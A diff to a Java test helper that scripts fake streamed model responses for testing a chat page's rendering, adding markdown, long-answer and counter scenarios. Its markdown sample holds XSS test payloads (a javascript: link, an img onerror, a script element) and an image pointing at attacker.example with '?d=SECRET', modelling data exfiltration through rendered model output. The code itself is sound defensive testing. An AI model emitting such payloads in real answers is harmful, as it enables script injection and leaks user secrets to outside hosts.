@@ -10,9 +10,17 @@ import java.util.List;
  * usage, no terminator); hang (headers only); length (finish reason length); nul (a NUL byte in the text);
  * xss (model output that is HTML: an img with onerror and a script element, to check the page shows it as text);
  * errorfirst (an overloaded error before any text, then the connection drops); stall (2 tokens, then silence with
- * the connection open); malformed (1 token, then a chunk that is not JSON); emptycut (no text, then the connection drops).
+ * the connection open); malformed (1 token, then a chunk that is not JSON); emptycut (no text, then the connection drops);
+ * md (markdown: a heading, a table, a code block, a safe link, a javascript: link, an external image, raw HTML);
+ * long:N:ms (an N-character markdown answer in word-sized tokens, one every ms); count ("Answer n", n counting
+ * every count request, so two answers to the same question differ).
  */
 final class Script {
+    static final String MARKDOWN = "# Heading\n\nSome **bold** text, a [safe link](https://example.org/docs), "
+            + "a [bad link](javascript:alert(1)) and an image ![secret](https://attacker.example/p?d=SECRET).\n\n"
+            + "| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconsole.log(\"copied <ok>\");\n```\n\n<img src=x onerror=alert(1)>\n";
+    private static final java.util.concurrent.atomic.AtomicInteger COUNT = new java.util.concurrent.atomic.AtomicInteger();
+
     enum Kind { FRAME, END, CUT, HANG }
 
     record Step(Kind kind, byte[] bytes) {
@@ -90,6 +98,23 @@ final class Script {
                 s.add(frame(f.text("<script>alert(2)</script>")));
                 finish(s, f, "stop", true);
             }
+            case "md" -> {
+                for (String piece : pieces(MARKDOWN)) {
+                    s.add(frame(f.text(quoted(piece))));
+                }
+                finish(s, f, "stop", true);
+            }
+            case "long" -> {
+                for (String piece : pieces(longText(a > 0 ? a : 20_000))) {
+                    s.add(frame(f.text(quoted(piece))));
+                }
+                finish(s, f, "stop", true);
+            }
+            case "count" -> {
+                s.add(frame(f.text("Answer ")));
+                s.add(frame(f.text(Integer.toString(COUNT.incrementAndGet()))));
+                finish(s, f, "stop", true);
+            }
             case "nul" -> {
                 s.add(frame(f.text("a\\u0000b")));
                 finish(s, f, "stop", true);
@@ -102,6 +127,39 @@ final class Script {
             }
         }
         return new Script(s, f, false);
+    }
+
+    /** Deterministic markdown of exactly {@code chars} characters: headings, paragraphs, lists and code blocks. */
+    static String longText(int chars) {
+        StringBuilder b = new StringBuilder(chars + 200);
+        for (int i = 0; b.length() < chars; i++) {
+            switch (i % 4) {
+                case 0 -> b.append("## Part ").append(i / 4 + 1).append("\n\n");
+                case 1 -> b.append("Streaming answers must stay smooth however long they grow; paragraph ").append(i)
+                        .append(" adds more words to the page, and each word arrives as its own token.\n\n");
+                case 2 -> b.append("- first point of ").append(i).append("\n- second point, with `inline code`\n- third point\n\n");
+                default -> b.append("```java\nint total = ").append(i).append(";\nfor (int k = 0; k < 9; k++) { total += k; }\n```\n\n");
+            }
+        }
+        return b.substring(0, chars);
+    }
+
+    /** Word-sized pieces that keep their trailing whitespace, the way providers stream tokens. */
+    static List<String> pieces(String text) {
+        List<String> out = new ArrayList<>();
+        int start = 0;
+        for (int i = 1; i <= text.length(); i++) {
+            if (i == text.length() || Character.isWhitespace(text.charAt(i - 1)) && !Character.isWhitespace(text.charAt(i))) {
+                out.add(text.substring(start, i));
+                start = i;
+            }
+        }
+        return out;
+    }
+
+    /** The text as the inside of a JSON string (the frames take it already escaped). */
+    private static String quoted(String text) {
+        return new String(com.fasterxml.jackson.core.io.JsonStringEncoder.getInstance().quoteAsString(text));
     }
 
     private static void finish(List<Step> s, Frames f, String reason, boolean terminator) {
